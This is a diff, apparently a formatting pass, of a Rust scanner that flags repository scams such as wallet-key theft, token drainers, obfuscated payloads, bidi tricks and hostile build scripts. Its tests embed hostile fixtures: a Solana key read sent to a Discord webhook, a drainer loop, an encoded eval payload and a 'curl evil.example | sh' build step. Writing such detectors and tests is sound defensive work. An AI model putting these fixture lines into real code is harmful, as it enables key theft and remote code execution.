@@ -38,8 +38,22 @@ pub struct ScamFinding {
 }
 
 impl ScamFinding {
-    pub(super) fn new(check: &'static str, severity: Severity, title: &str, path: &str, line: u32, detail: impl Into<String>) -> Self {
-        ScamFinding { check, severity, title: title.into(), path: path.into(), line, detail: detail.into() }
+    pub(super) fn new(
+        check: &'static str,
+        severity: Severity,
+        title: &str,
+        path: &str,
+        line: u32,
+        detail: impl Into<String>,
+    ) -> Self {
+        ScamFinding {
+            check,
+            severity,
+            title: title.into(),
+            path: path.into(),
+            line,
+            detail: detail.into(),
+        }
     }
 }
 
@@ -47,17 +61,23 @@ static RECEIVER: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?i)\b(?:receiver|recipient|drain\w*|attacker|collector|destination|dest|to_?addr(?:ess)?|target_?wallet|my_?wallet|owner_?wallet|hacker|sink|payout_?wallet)\w*["']?\s*[:=]\s*(?:new\s+PublicKey\(\s*)?["'](0x[0-9a-fA-F]{40}|[1-9A-HJ-NP-Za-km-z]{32,44})["']"#)
         .expect("receiver regex")
 });
-static APPROVE_ALL_LITERAL: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r#"setApprovalForAll\s*\(\s*["']?0x[0-9a-fA-F]{40}"#).expect("approval regex"));
-static RAW_IP_URL: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"https?://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})").expect("ip regex"));
+static APPROVE_ALL_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"setApprovalForAll\s*\(\s*["']?0x[0-9a-fA-F]{40}"#).expect("approval regex")
+});
+static RAW_IP_URL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"https?://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})").expect("ip regex")
+});
 pub(super) fn ident_byte(b: u8) -> bool {
     b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b == b'.'
 }
 
 pub(super) fn comment_line(line: &[u8]) -> bool {
     let t = line.trim_ascii_start();
-    t.starts_with(b"//") || t.starts_with(b"#") || t.starts_with(b"*") || t.starts_with(b"/*") || t.starts_with(b"--")
+    t.starts_with(b"//")
+        || t.starts_with(b"#")
+        || t.starts_with(b"*")
+        || t.starts_with(b"/*")
+        || t.starts_with(b"--")
 }
 
 pub(super) fn contains(hay: &[u8], needle: &str) -> bool {
@@ -72,14 +92,19 @@ pub(super) fn first(hits: &[(Sig, usize)], s: Sig) -> Option<usize> {
 fn raw_public_ip(data: &[u8], hits: &[(Sig, usize)]) -> Option<usize> {
     // `://1` anchors, and `http://` anchors (which hide a following `://1` from the
     // non-overlapping automaton).
-    let candidates = hits.iter().filter(|(s, p)| *s == Sig::RawIpUrl || (*s == Sig::NetworkUse && data[*p..].starts_with(b"http")));
+    let candidates = hits.iter().filter(|(s, p)| {
+        *s == Sig::RawIpUrl || (*s == Sig::NetworkUse && data[*p..].starts_with(b"http"))
+    });
     for &(_, pos) in candidates {
         let lo = pos.saturating_sub(5);
         let hi = (pos + 32).min(data.len());
         if let Some(c) = RAW_IP_URL.captures(&data[lo..hi]) {
-            let oct: Vec<u8> = (1..=4).filter_map(|i| std::str::from_utf8(c.get(i)?.as_bytes()).ok()?.parse().ok()).collect();
+            let oct: Vec<u8> = (1..=4)
+                .filter_map(|i| std::str::from_utf8(c.get(i)?.as_bytes()).ok()?.parse().ok())
+                .collect();
             if oct.len() == 4 {
-                let ip = std::net::IpAddr::V4(std::net::Ipv4Addr::new(oct[0], oct[1], oct[2], oct[3]));
+                let ip =
+                    std::net::IpAddr::V4(std::net::Ipv4Addr::new(oct[0], oct[1], oct[2], oct[3]));
                 if !crate::netguard::is_forbidden_ip(ip) {
                     return Some(pos);
                 }
@@ -108,7 +133,14 @@ fn wallet_read(data: &[u8], hits: &[(Sig, usize)]) -> Option<(usize, bool)> {
 
 /// Evaluate one text file's signals. Findings in test paths are downgraded to `low`: test
 /// fixtures of security tools legitimately contain these patterns.
-pub fn evaluate_file(path: &str, kind: Kind, data: &[u8], hits: &[(Sig, usize)], counts: &[u32; NSIG], is_test: bool) -> Vec<ScamFinding> {
+pub fn evaluate_file(
+    path: &str,
+    kind: Kind,
+    data: &[u8],
+    hits: &[(Sig, usize)],
+    counts: &[u32; NSIG],
+    is_test: bool,
+) -> Vec<ScamFinding> {
     let mut out = Vec::new();
     if !kind.is_code() {
         return out;
@@ -117,13 +149,31 @@ pub fn evaluate_file(path: &str, kind: Kind, data: &[u8], hits: &[(Sig, usize)],
     let ln = |pos: usize| line_of(data, pos);
 
     // --- Wallet theft: secret material read + sent somewhere an attacker controls.
-    let hard_exfil = hits.iter().find(|(s, p)| *s == Sig::Exfil && !data[*p..].starts_with(b"api.telegram.org")).map(|(_, p)| *p);
-    let telegram = hits.iter().find(|(s, p)| *s == Sig::Exfil && data[*p..].starts_with(b"api.telegram.org")).map(|(_, p)| *p);
-    let raw_ip = if c(Sig::RawIpUrl) + c(Sig::NetworkUse) > 0 { raw_public_ip(data, hits) } else { None };
-    let wallet = if c(Sig::WalletPath) > 0 { wallet_read(data, hits) } else { None };
+    let hard_exfil = hits
+        .iter()
+        .find(|(s, p)| *s == Sig::Exfil && !data[*p..].starts_with(b"api.telegram.org"))
+        .map(|(_, p)| *p);
+    let telegram = hits
+        .iter()
+        .find(|(s, p)| *s == Sig::Exfil && data[*p..].starts_with(b"api.telegram.org"))
+        .map(|(_, p)| *p);
+    let raw_ip = if c(Sig::RawIpUrl) + c(Sig::NetworkUse) > 0 {
+        raw_public_ip(data, hits)
+    } else {
+        None
+    };
+    let wallet = if c(Sig::WalletPath) > 0 {
+        wallet_read(data, hits)
+    } else {
+        None
+    };
     let strong_exfil = hard_exfil.or(raw_ip);
     if let Some((wpos, browser_store)) = wallet {
-        let exfil = if browser_store { strong_exfil.or(telegram) } else { strong_exfil };
+        let exfil = if browser_store {
+            strong_exfil.or(telegram)
+        } else {
+            strong_exfil
+        };
         if let Some(epos) = exfil {
             out.push(ScamFinding::new(
                 "scam.wallet_exfiltration",
@@ -135,7 +185,8 @@ pub fn evaluate_file(path: &str, kind: Kind, data: &[u8], hits: &[(Sig, usize)],
             ));
         }
     } else if let Some(epos) = strong_exfil {
-        let key_material = c(Sig::KeyContext) + c(Sig::SolanaArrayContext) + c(Sig::MnemonicContext) > 0;
+        let key_material =
+            c(Sig::KeyContext) + c(Sig::SolanaArrayContext) + c(Sig::MnemonicContext) > 0;
         if key_material {
             out.push(ScamFinding::new(
                 "scam.wallet_exfiltration",
@@ -149,13 +200,26 @@ pub fn evaluate_file(path: &str, kind: Kind, data: &[u8], hits: &[(Sig, usize)],
     }
 
     // --- Drainers.
-    if c(Sig::ApprovalForAll) + c(Sig::MaxApproval) + c(Sig::TokenEnumeration) + c(Sig::TransferCall) > 0 {
+    if c(Sig::ApprovalForAll)
+        + c(Sig::MaxApproval)
+        + c(Sig::TokenEnumeration)
+        + c(Sig::TransferCall)
+        > 0
+    {
         drainer(path, data, hits, counts, &mut out);
     }
 
     // --- Obfuscation (eval-style tricks only exist in dynamic languages; a Rust binding
     // named `fromCharCode` is not a payload). Encoded blobs are checked everywhere.
-    super::obfuscation::obfuscation(path, kind, data, hits, counts, strong_exfil.is_some() || wallet.is_some(), &mut out);
+    super::obfuscation::obfuscation(
+        path,
+        kind,
+        data,
+        hits,
+        counts,
+        strong_exfil.is_some() || wallet.is_some(),
+        &mut out,
+    );
 
     // --- Trojan Source: bidi controls have no business in code.
     if let Some(pos) = first(hits, Sig::Bidi) {
@@ -186,34 +250,64 @@ pub fn evaluate_file(path: &str, kind: Kind, data: &[u8], hits: &[(Sig, usize)],
     out
 }
 
-fn drainer(path: &str, data: &[u8], hits: &[(Sig, usize)], counts: &[u32; NSIG], out: &mut Vec<ScamFinding>) {
+fn drainer(
+    path: &str,
+    data: &[u8],
+    hits: &[(Sig, usize)],
+    counts: &[u32; NSIG],
+    out: &mut Vec<ScamFinding>,
+) {
     let c = |s: Sig| counts[s as usize];
     let receiver = RECEIVER.find(data).map(|m| m.start());
     // setApprovalForAll *called* (not defined) with a literal operator address.
-    let approve_literal = hits.iter().filter(|(s, _)| *s == Sig::ApprovalForAll).find_map(|&(_, pos)| {
-        let (_, line) = window(data, pos, 200, 0);
-        if contains(line, "function setApprovalForAll") || contains(line, "event ApprovalForAll") {
-            return None;
-        }
-        APPROVE_ALL_LITERAL.is_match(&data[pos..(pos + 120).min(data.len())]).then_some(pos)
-    });
-    let approve_call = hits.iter().filter(|(s, _)| *s == Sig::ApprovalForAll).find(|&&(_, pos)| {
-        let (_, line) = window(data, pos, 200, 0);
-        !contains(line, "function setApprovalForAll") && !contains(line, "event ApprovalForAll") && !comment_line(line)
-    });
-    let unlimited = hits.iter().filter(|(s, _)| *s == Sig::MaxApproval).find(|&&(_, pos)| {
-        let (_, w) = window(data, pos, 300, 1);
-        contains(w, "approve") && !comment_line(w)
-    });
+    let approve_literal = hits
+        .iter()
+        .filter(|(s, _)| *s == Sig::ApprovalForAll)
+        .find_map(|&(_, pos)| {
+            let (_, line) = window(data, pos, 200, 0);
+            if contains(line, "function setApprovalForAll")
+                || contains(line, "event ApprovalForAll")
+            {
+                return None;
+            }
+            APPROVE_ALL_LITERAL
+                .is_match(&data[pos..(pos + 120).min(data.len())])
+                .then_some(pos)
+        });
+    let approve_call = hits
+        .iter()
+        .filter(|(s, _)| *s == Sig::ApprovalForAll)
+        .find(|&&(_, pos)| {
+            let (_, line) = window(data, pos, 200, 0);
+            !contains(line, "function setApprovalForAll")
+                && !contains(line, "event ApprovalForAll")
+                && !comment_line(line)
+        });
+    let unlimited = hits
+        .iter()
+        .filter(|(s, _)| *s == Sig::MaxApproval)
+        .find(|&&(_, pos)| {
+            let (_, w) = window(data, pos, 300, 1);
+            contains(w, "approve") && !comment_line(w)
+        });
     let sweep = c(Sig::TokenEnumeration) > 0 && c(Sig::TransferCall) > 0;
     let (line, why) = if let Some(p) = approve_literal {
         (line_of(data, p), "calls setApprovalForAll for a hard-coded operator address, handing over every NFT of the collection")
     } else if let (Some(r), Some(_)) = (receiver, approve_call) {
-        (line_of(data, r), "requests approval for all assets and routes them to a hard-coded receiver")
+        (
+            line_of(data, r),
+            "requests approval for all assets and routes them to a hard-coded receiver",
+        )
     } else if let (Some(r), true) = (receiver, sweep) {
-        (line_of(data, r), "enumerates the victim's tokens and transfers them to a hard-coded receiver")
+        (
+            line_of(data, r),
+            "enumerates the victim's tokens and transfers them to a hard-coded receiver",
+        )
     } else if let (Some(r), Some(_), true) = (receiver, unlimited, c(Sig::TransferCall) > 0) {
-        (line_of(data, r), "asks for unlimited token approval and moves tokens to a hard-coded receiver")
+        (
+            line_of(data, r),
+            "asks for unlimited token approval and moves tokens to a hard-coded receiver",
+        )
     } else {
         if let Some(&(_, p)) = unlimited {
             out.push(ScamFinding::new(
@@ -245,16 +339,28 @@ mod tests {
     use crate::tree::RepoFile;
 
     fn scan(path: &str, text: &str) -> Vec<ScamFinding> {
-        let f = RepoFile { path: path.into(), data: text.as_bytes().to_vec(), size: text.len() as u64, truncated: false };
+        let f = RepoFile {
+            path: path.into(),
+            data: text.as_bytes().to_vec(),
+            size: text.len() as u64,
+            truncated: false,
+        };
         let mut bin = Vec::new();
-        Scanner::global().scan_file(&f, &mut bin).map(|s| s.scam).unwrap_or_default()
+        Scanner::global()
+            .scan_file(&f, &mut bin)
+            .map(|s| s.scam)
+            .unwrap_or_default()
     }
 
     #[test]
     fn stealer_vs_wallet_app() {
         let stealer = "const fs=require('fs');const k=fs.readFileSync(os.homedir()+'/.config/solana/id.json');\nfetch('https://discord.com/api/webhooks/123/abc',{method:'POST',body:k});";
         let f = scan("src/index.js", stealer);
-        assert!(f.iter().any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical), "{f:?}");
+        assert!(
+            f.iter()
+                .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical),
+            "{f:?}"
+        );
         let wallet = "const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(home + '/.config/solana/id.json'))));\nconst conn = new Connection('https://api.mainnet-beta.solana.com');\nawait sendAndConfirmTransaction(conn, tx, [kp]);";
         assert!(scan("src/wallet.ts", wallet).is_empty());
     }
@@ -263,53 +369,88 @@ mod tests {
     fn drainer_vs_nft_contract() {
         let d = "const receiver = '0x1111222233334444555566667777888899990000';\nconst tokens = await getTokenBalances(victim);\nfor (const t of tokens) { await t.contract.transferFrom(victim, receiver, t.balance); }";
         let f = scan("src/drain.js", d);
-        assert!(f.iter().any(|f| f.check == "scam.drainer" && f.severity == Severity::Critical), "{f:?}");
+        assert!(
+            f.iter()
+                .any(|f| f.check == "scam.drainer" && f.severity == Severity::Critical),
+            "{f:?}"
+        );
         let nft = "function setApprovalForAll(address operator, bool approved) public virtual override {\n  _setApprovalForAll(_msgSender(), operator, approved);\n}\nfunction transferFrom(address from, address to, uint256 id) public { }";
         assert!(scan("contracts/NFT.sol", nft).is_empty());
-        let approve = "await nft.setApprovalForAll('0xAbCdEf0123456789abcdef0123456789ABCDEF01', true);";
-        assert!(scan("src/x.js", approve).iter().any(|f| f.severity == Severity::Critical));
+        let approve =
+            "await nft.setApprovalForAll('0xAbCdEf0123456789abcdef0123456789ABCDEF01', true);";
+        assert!(scan("src/x.js", approve)
+            .iter()
+            .any(|f| f.severity == Severity::Critical));
     }
 
     #[test]
     fn obfuscation_cases() {
         let evil = "const p = 'ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlIik=';\neval(atob(p));";
-        assert!(scan("lib/a.js", evil).iter().any(|f| f.severity == Severity::Critical));
+        assert!(scan("lib/a.js", evil)
+            .iter()
+            .any(|f| f.severity == Severity::Critical));
         let benign = "const retrieval = retrieval(query);\nconst ok = isFunction(x);\nconst m = re.exec(s);\nconst img = atob(data);";
         assert!(scan("lib/b.js", benign).is_empty());
-        let binding = "#[wasm_bindgen(js_name = fromCharCode)]\npub fn from_char_code(a: u16) -> JsString;\n".repeat(25);
+        let binding =
+            "#[wasm_bindgen(js_name = fromCharCode)]\npub fn from_char_code(a: u16) -> JsString;\n"
+                .repeat(25);
         assert!(scan("src/lib.rs", &binding).is_empty());
-        let blob = format!("const logo = \"data:image/png;base64,{}\";", "A".repeat(3000));
+        let blob = format!(
+            "const logo = \"data:image/png;base64,{}\";",
+            "A".repeat(3000)
+        );
         let digits = format!("const N: &str = \"{}\";", "1234567890".repeat(300));
         assert!(scan("src/num.rs", &digits).is_empty());
         assert!(scan("lib/c.js", &blob).is_empty());
         let packed = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))";
-        assert!(scan("lib/p.js", packed).iter().any(|f| f.check == "scam.obfuscation"));
+        assert!(scan("lib/p.js", packed)
+            .iter()
+            .any(|f| f.check == "scam.obfuscation"));
         use base64::Engine as _;
         let bytes: Vec<u8> = (0..1500u32).map(|i| (i * 31 % 251) as u8).collect();
-        let hidden = format!("const payload = \"{}\";", base64::engine::general_purpose::STANDARD.encode(bytes));
-        assert!(scan("lib/d.js", &hidden).iter().any(|f| f.check == "scam.obfuscation"));
+        let hidden = format!(
+            "const payload = \"{}\";",
+            base64::engine::general_purpose::STANDARD.encode(bytes)
+        );
+        assert!(scan("lib/d.js", &hidden)
+            .iter()
+            .any(|f| f.check == "scam.obfuscation"));
     }
 
     #[test]
     fn bidi_only_in_code() {
         let code = "if (isAdmin) { /* \u{202E} } \u{2066} if (true) */ }";
-        assert!(scan("src/auth.js", code).iter().any(|f| f.check == "scam.hidden_unicode"));
+        assert!(scan("src/auth.js", code)
+            .iter()
+            .any(|f| f.check == "scam.hidden_unicode"));
         assert!(scan("docs/ar.md", "مرحبا \u{202B}text\u{202C}").is_empty());
     }
 
     #[test]
     fn build_scripts() {
         let bad = "use std::process::Command;\nfn main() {\n  let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://evil.example/x | sh\").status();\n}";
-        assert!(scan("build.rs", bad).iter().any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical));
+        assert!(scan("build.rs", bad)
+            .iter()
+            .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical));
         let good = "// See https://doc.rust-lang.org/cargo/reference/build-scripts.html\nfn main() {\n    cc::Build::new().file(\"src/ffi.c\").compile(\"ffi\");\n    println!(\"cargo:rerun-if-changed=src/ffi.c\");\n}";
         assert!(scan("build.rs", good).is_empty());
         let msg = "fn main() {\n    let v = std::process::Command::new(\"rustc\").arg(\"--version\").output();\n    eprintln!(\"please file an issue in https://github.com/x/y\");\n}";
         assert!(scan("build.rs", msg).is_empty());
-        assert!(scan("src/body/build.rs", bad).is_empty(), "a module named build.rs is not a build script");
+        assert!(
+            scan("src/body/build.rs", bad).is_empty(),
+            "a module named build.rs is not a build script"
+        );
         let curl = "fn main() {\n    // on Windows powershell aliases curl\n    let s = std::process::Command::new(\"curl\").arg(\"-sSfL\").arg(\"https://example.com/ui.zip\").status();\n}";
-        assert_eq!(scan("build.rs", curl).first().map(|f| f.severity), Some(Severity::High));
-        let client = "fn main() {\n    let body = ureq::get(\"https://example.com/lib.tar.gz\").call();\n}";
-        assert_eq!(scan("build.rs", client).first().map(|f| f.severity), Some(Severity::High));
+        assert_eq!(
+            scan("build.rs", curl).first().map(|f| f.severity),
+            Some(Severity::High)
+        );
+        let client =
+            "fn main() {\n    let body = ureq::get(\"https://example.com/lib.tar.gz\").call();\n}";
+        assert_eq!(
+            scan("build.rs", client).first().map(|f| f.severity),
+            Some(Severity::High)
+        );
     }
 
     #[test]
@@ -318,8 +459,14 @@ mod tests {
         pe.extend(vec![0u8; 200]);
         pe[0x3c] = 0x80;
         pe[0x80..0x84].copy_from_slice(b"PE\0\0");
-        assert_eq!(executable("bot/SolanaSniper.exe", &pe).map(|f| f.severity), Some(Severity::Critical));
-        assert_eq!(executable("tests/fixtures/sample.exe", &pe).map(|f| f.severity), Some(Severity::Low));
+        assert_eq!(
+            executable("bot/SolanaSniper.exe", &pe).map(|f| f.severity),
+            Some(Severity::Critical)
+        );
+        assert_eq!(
+            executable("tests/fixtures/sample.exe", &pe).map(|f| f.severity),
+            Some(Severity::Low)
+        );
         assert!(executable("README.md", b"MZ is a nice place").is_none());
         assert!(executable("README.md", "MZ ".repeat(100).as_bytes()).is_none());
         assert!(executable("assets/logo.png", b"\x89PNG\r\n").is_none());
